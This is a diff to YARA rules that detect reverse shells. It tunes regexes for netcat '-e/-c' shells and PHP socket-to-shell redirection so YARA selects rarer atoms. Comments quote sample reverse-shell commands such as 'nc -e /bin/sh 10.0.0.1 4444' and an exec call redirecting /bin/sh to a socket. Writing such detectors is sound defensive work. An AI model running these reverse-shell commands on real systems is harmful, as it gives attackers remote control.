@@ -33,8 +33,9 @@ rule strata_rs_netcat_exec
         severity = "critical"
         description = "netcat/ncat told to run a shell for the peer (-e or -c)"
     strings:
-        // nc -e /bin/sh 10.0.0.1 4444, ncat 10.0.0.1 4444 -e /bin/bash, nc -lvp 4444 -c bash
-        $e = /\b(nc|ncat|netcat|nc\.traditional|nc\.openbsd|busybox\s+nc)\s[^\n|;&]{0,120}(-[a-z]*[ec]|--exec|--sh-exec)\s+["']?(\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\b/
+        // nc -e /bin/sh 10.0.0.1 4444, ncat 10.0.0.1 4444 -e /bin/bash, nc -lvp 4444 -c bash.
+        // [n] is "n" that YARA cannot pick as an atom: "nc" alone is in every other word.
+        $e = /\b([n](c|cat|etcat|c\.traditional|c\.openbsd)|busybox\s+[n]c)\s[^\n|;&]{0,120}(-[a-z]*[ec]|--exec|--sh-exec)\s+["']?(\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\b/
     condition:
         strata_text and $e
 }
@@ -153,8 +154,9 @@ rule strata_rs_php
         $sock1 = /fsockopen\s*\(/
         $sock2 = /stream_socket_client\s*\(\s*["'](tcp|udp|ssl|tls):\/\//
         $sock3 = /socket_connect\s*\(/
-        // exec("/bin/sh -i <&3 >&3 2>&3")
-        $redir = /(exec|shell_exec|system|passthru|popen|proc_open)\s*\(\s*["'](\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\s+(-i\s+)?<&\s*[0-9]+/
+        // exec("/bin/sh -i <&3 >&3 2>&3"); the names are spelled as one-letter classes so that
+        // YARA's atom is the rare "<&", not "exec" or "system"
+        $redir = /([e][x][e][c]|[s][h][e][l][l]_[e][x][e][c]|[s][y][s][t][e][m]|[p][a][s][s][t][h][r][u]|[p][o][p][e][n]|[p][r][o][c]_[o][p][e][n])\s*\(\s*["'](\/usr)?(\/bin\/)?(ba|da|z|k|a)?sh\s+(-i\s+)?<&\s*[0-9]+/
         // proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock), $pipes)
         $proc = /proc_open\s*\(\s*[^\n]{0,80}\b(array\s*\(|\[)\s*0\s*=>\s*\$\w+\s*,\s*1\s*=>\s*\$\w+/
         $shell_i = /["'][^"'\n]{0,60}(\/usr)?\/bin\/(ba|da|z|k|a)?sh\s+-i["']/
